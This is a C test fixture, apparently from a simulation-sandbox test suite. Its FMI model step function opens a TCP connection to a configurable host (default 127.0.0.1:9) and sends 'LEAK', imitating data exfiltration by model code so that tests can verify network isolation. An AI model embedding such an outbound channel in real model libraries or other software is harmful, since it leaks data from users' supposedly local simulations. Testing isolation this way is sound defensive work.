/*
 * Hostile test fixture, never part of the model library: fmi2DoStep opens a TCP connection to
 * target ("IPv4:port") and sends "LEAK", as model code exfiltrating data would. It reports
 * whether the connection was made, so a test can check the outcome from both sides.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

#include "model.h"

enum { VR_CONNECTED, VR_ERROR, N_INTEGERS };
enum { VR_TARGET, N_STRINGS };

static const Variable INTEGERS[N_INTEGERS] = {
    [VR_CONNECTED] = {"connected", CAUSALITY_OUTPUT, VARIABILITY_DISCRETE, INITIAL_EXACT, 0, NULL},
    [VR_ERROR] = {"error", CAUSALITY_OUTPUT, VARIABILITY_DISCRETE, INITIAL_EXACT, 0, NULL},
};

static const Variable STRINGS[N_STRINGS] = {
    [VR_TARGET] = {"target", CAUSALITY_PARAMETER, VARIABILITY_FIXED, INITIAL_EXACT, 0, "127.0.0.1:9"},
};

static fmi2Status do_step(ModelInstance *inst, double tEnd) {
    struct sockaddr_in address = {.sin_family = AF_INET};
    char host[64];
    int port, fd;

    (void)tEnd;
    if (sscanf(inst->s[VR_TARGET], "%63[^:]:%d", host, &port) != 2 ||
        inet_pton(AF_INET, host, &address.sin_addr) != 1 || port < 1 || port > 65535) {
        log_error(inst, "target must be IPv4:port, got \"%s\"", inst->s[VR_TARGET]);
        return fmi2Error;
    }
    address.sin_port = htons((uint16_t)port);
    fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd >= 0 && connect(fd, (struct sockaddr *)&address, sizeof address) == 0) {
        inst->i[VR_CONNECTED] = 1;
        inst->i[VR_ERROR] = 0;
        send(fd, "LEAK", 4, MSG_NOSIGNAL);
    } else {
        inst->i[VR_CONNECTED] = 0;
        inst->i[VR_ERROR] = errno;
    }
    if (fd >= 0) close(fd);
    return fmi2OK;
}

const Model MODEL = {
    .integers = INTEGERS,
    .strings = STRINGS,
    .nIntegers = N_INTEGERS,
    .nStrings = N_STRINGS,
    .doStep = do_step,
};
